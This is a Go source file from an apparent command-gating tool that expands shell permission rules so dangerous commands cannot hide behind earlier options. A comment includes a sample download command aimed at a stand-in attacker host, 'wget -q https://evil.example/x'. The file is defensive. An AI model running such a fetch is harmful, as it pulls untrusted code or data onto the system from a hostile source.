package dangerous

import (
	"strings"

	"github.com/pigate/pigate/internal/gate/policy"
	"github.com/pigate/pigate/internal/gate/rule"
)

// loose are the programs whose arguments mean the same after another argument:
// those that copy, those that talk to a database, those that take several
// targets. "make deploy" is as dangerous as "make test deploy".
const loose = ` ant bake cargo-make cp doit gradle gradlew grunt gulp install invoke just ln make mage mongosh mv mvn mvnw mysql ninja psql rake redis-cli rsync
 sbt scons scp sftp sqlite3 task `

// after returns the lines of the list with what the rule names put in front of
// their arguments, so that an option or an argument named before the wildcard
// hides nothing: "wget -q *" is tried on "wget -q https://evil.example/x".
func after(r *rule.Rule) []Line {
	named, ok := strings.CutSuffix(r.Pattern.String(), " *")
	if r.Whole || r.Scope != rule.Shell || !ok || strings.ContainsAny(named, "*?\\") {
		return nil
	}
	call := policy.Derive(Line{Tool: "bash", Text: named}.request())
	if call.Analysis == nil || len(call.Analysis.Units) != 1 {
		return nil
	}
	unit := &call.Analysis.Units[0]
	shape := unit.Shape()
	if shape == "" || !movable(named, shape, unit.Program) {
		return nil
	}
	var list []Line
	for _, l := range lines() {
		rest, ok := strings.CutPrefix(l.Text, shape+" ")
		if l.Tool != "bash" || !ok || strings.HasPrefix(l.Text, named+" ") {
			continue
		}
		l.Text = named + " " + rest
		l.call = policy.Derive(l.request())
		list = append(list, l)
	}
	return list
}

// movable reports that arguments keep their meaning behind what a rule names:
// it names options beside the shape, or the program takes them in any order.
func movable(named, shape, program string) bool {
	if strings.Contains(loose, " "+program+" ") {
		return true
	}
	left := strings.Fields(shape)
	option := false // the word before is one, so that this may be its value
	for i, word := range strings.Fields(named) {
		is := strings.HasPrefix(word, "-")
		switch {
		case i == 0 || len(left) > 0 && word == left[0]:
			left = left[1:]
		case !is && !option:
			return false
		}
		option = is
	}
	return named != shape
}
